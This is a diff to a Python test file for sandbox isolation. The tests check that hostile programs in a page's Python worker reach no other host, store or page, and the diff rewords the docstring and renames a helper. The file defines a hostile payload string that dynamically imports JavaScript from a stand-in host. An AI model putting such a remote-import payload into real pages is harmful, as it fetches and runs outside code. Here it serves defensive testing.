@@ -1,7 +1,7 @@
 """Test that hostile programs in the page reach no host, no store and no other page, even if the host sends no policy.
 
-The same programs run in three workers: the page's; one whose Python still finds JavaScript's globals, so that only the
-removed functions protect; and one from which nothing was removed, where most of them succeed.
+The same programs run in three workers: the page's own worker; one whose Python still finds JavaScript's globals, so
+that only the removal of functions protects; and one from which nothing was removed, where most programs succeed.
 """
 
 from __future__ import annotations
@@ -18,7 +18,9 @@ import pytest
 from tests.support.site.visit import Visit
 from tools import live, serve
 
-pytestmark = pytest.mark.skipif(not live.wanted(), reason="needs what a page's Python is made of: make test LIVE=1")
+pytestmark = pytest.mark.skipif(
+    not live.is_requested(), reason="needs what a page's Python is made of: make test LIVE=1"
+)
 
 U = "https://elsewhere.example/hostile"
 TEXT = f"import('{U}')"  # JavaScript that requests another host
